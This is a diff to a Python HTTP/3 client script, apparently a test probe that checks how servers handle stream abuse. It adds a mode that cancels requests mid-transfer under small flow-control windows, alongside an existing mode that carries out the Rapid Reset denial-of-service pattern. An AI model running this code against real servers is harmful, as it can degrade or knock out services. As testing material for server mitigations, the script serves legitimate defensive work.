@@ -6,6 +6,11 @@ Opens N_STREAMS request streams for PATH on one connection and cancels each at o
 (RESET_STREAM and STOP_SENDING with H3_REQUEST_CANCELLED), as in a Rapid Reset attack, then
 waits up to WAIT_SECONDS for the server to close the connection.
 Prints "closed <error code>" when the server closed it, else "open".
+
+Usage: h3_abuse.py cancel HOST PORT PATH WINDOW_BYTES
+Asks for PATH with flow-control windows of WINDOW_BYTES (stream and connection), cancels the
+request (RESET_STREAM and STOP_SENDING) as soon as the first body bytes arrive, keeps the
+connection open for a second and prints "received <body bytes>".
 """
 import asyncio
 import ssl
@@ -15,6 +20,7 @@ from aioquic.asyncio.client import connect
 from aioquic.asyncio.protocol import QuicConnectionProtocol
 from aioquic.h3.connection import H3_ALPN, H3Connection
 from aioquic.quic.configuration import QuicConfiguration
+from aioquic.h3.events import DataReceived
 from aioquic.quic.events import ConnectionTerminated
 
 H3_REQUEST_CANCELLED = 0x10C
@@ -26,13 +32,18 @@ class Client(QuicConnectionProtocol):
         self.h3 = H3Connection(self._quic)
         self.terminated = None
         self.closed = asyncio.Event()
+        self.received = 0
+        self.first_data = asyncio.Event()
 
     def quic_event_received(self, event):
         if isinstance(event, ConnectionTerminated):
             self.terminated = event.error_code
             self.closed.set()
             return
-        self.h3.handle_event(event)
+        for e in self.h3.handle_event(event):
+            if isinstance(e, DataReceived):
+                self.received += len(e.data)
+                self.first_data.set()
 
 
 def head(host, path):
@@ -68,11 +79,33 @@ async def reset(host, port, n, path, wait):
         print("open" if client.terminated is None else f"closed {client.terminated}", flush=True)
 
 
+async def cancel(host, port, path, window):
+    config = QuicConfiguration(is_client=True, alpn_protocols=H3_ALPN)
+    config.verify_mode = ssl.CERT_NONE
+    config.max_data = window
+    config.max_stream_data = window
+    async with connect(host, port, configuration=config, create_protocol=Client) as client:
+        quic = client._quic
+        sid = quic.get_next_available_stream_id()
+        client.h3.send_headers(sid, head(host, path), end_stream=True)
+        client.transmit()
+        await asyncio.wait_for(client.first_data.wait(), 10)
+        quic.reset_stream(sid, H3_REQUEST_CANCELLED)
+        quic.stop_stream(sid, H3_REQUEST_CANCELLED)
+        client.transmit()
+        received = client.received
+        await asyncio.sleep(1)
+        print(f"received {received}", flush=True)
+
+
 def main():
     mode = sys.argv[1]
     if mode == "reset":
         host, port, n, path, wait = sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5], float(sys.argv[6])
         asyncio.run(reset(host, port, n, path, wait))
+    elif mode == "cancel":
+        host, port, path, window = sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5])
+        asyncio.run(cancel(host, port, path, window))
     else:
         sys.exit(f"unknown mode {mode}")
 
